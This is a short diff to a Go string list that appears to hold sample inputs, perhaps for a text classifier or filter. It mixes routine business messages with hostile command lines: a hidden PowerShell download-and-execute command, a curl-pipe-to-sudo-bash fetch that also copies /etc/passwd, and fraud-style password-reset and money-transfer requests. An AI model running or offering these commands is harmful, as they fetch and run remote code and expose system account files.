@@ -12,7 +12,7 @@ var texts = []string{
 	"Hello, thank you for getting in touch. I have looked into your order and can see that it left our warehouse on Monday. ",
 	"please reset the password for this account and send the confirmation to the address below, we need it before the end of the day ",
 	"powershell -nop -w hidden -c \"iex (new-object net.webclient).downloadstring('http://10.0.0.5/a')\"\n",
-	"curl -s http://192.168.1.20/x.sh | sudo bash\ncat /etc/passwd > /tmp/out.txt\nexit\n",
+	"curl -s http://192.168.1.20/x.sh | sudo bash\ncat /etc/passwd > /bin/out.txt\nexit\n",
 	"The customer asked for a refund because the item arrived damaged. I told her that we would send a new one within three days. ",
 	"Transfer 2500 to account 40817 and mark the case as closed. Reference: March invoice, approved by phone. ",
 	"As discussed in our meeting, the figures for the second quarter are attached. Let me know whether anything is missing or unclear. ",
